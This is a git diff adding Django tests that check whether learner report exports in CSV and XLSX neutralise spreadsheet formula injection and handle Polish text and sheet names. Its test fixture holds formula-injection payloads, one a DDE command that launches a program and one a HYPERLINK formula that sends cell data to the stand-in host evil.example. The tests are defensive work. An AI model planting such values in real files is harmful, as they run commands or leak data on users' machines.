@@ -431,3 +431,51 @@ def test_exports_follow_the_admin_language(client, coordinator, site):
     client.force_login(coordinator)
     rows = export(client, course_url(site["a"]))
     assert rows[0][:2] == ["Learner", "Email"] and rows[0][COMPLETED] == "Completion date"
+
+
+FORMULAS = {
+    "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "organisation_name": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "municipality": "+48 Łęcka",
+}
+
+
+def test_exports_open_safely_and_in_polish(client, coordinator, site, django_user_model):
+    """Text that a spreadsheet would run as a formula is written with an apostrophe in front, in
+    every CSV export; the CSV starts with a byte order mark and says it is UTF-8, so Excel
+    reads "Łęcka"; the XLSX keeps the text as text on a sheet named after the report."""
+    evil = django_user_model.objects.create_user("zly", "zly@example.org", "haslo-zlego-123", **FORMULAS)
+    enrol(evil, site["a"])
+    client.force_login(coordinator)
+    for url in (course_url(site["a"]), "/admin/reports/learners/", f"/admin/reports/learners/{evil.pk}/"):
+        response = client.get(url, {"export": "csv"})
+        assert response["Content-Type"] == "text/csv; charset=utf-8", url
+        body = b"".join(response.streaming_content)
+        assert body.startswith(b"\xef\xbb\xbf"), url
+        text = body.decode("utf-8-sig")
+        for value in FORMULAS.values():
+            if value in text:
+                assert f"'{value}" in text, (url, value)
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], url
+    rows = by_name(export(client, course_url(site["a"])))
+    assert rows["'" + FORMULAS["display_name"]][ORG] == "'" + FORMULAS["organisation_name"]
+    assert rows["'" + FORMULAS["display_name"]][TOWN] == "'+48 Łęcka"
+
+    response = client.get(course_url(site["a"]), {"export": "xlsx"})
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    assert workbook.sheetnames == ["A: mikrogranty".replace(":", " ")]
+    values = [cell for row in workbook.active.iter_rows() for cell in row]
+    evil_cell = next(cell for cell in values if cell.value == FORMULAS["organisation_name"])
+    assert evil_cell.data_type == "s"
+
+
+def test_a_long_or_odd_report_title_makes_a_valid_sheet_name(client, coordinator, course_index):
+    title = "Kurs [pilotażowy]: mikrogranty/fundusz? * część pierwsza"
+    course = make_course(course_index, title=title, slug="dlugi")
+    make_lesson(course, title="Lekcja")
+    client.force_login(coordinator)
+    response = client.get(course_url(course), {"export": "xlsx"})
+    (name,) = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).sheetnames
+    assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
+    assert name.startswith("Kurs  pilotażowy")
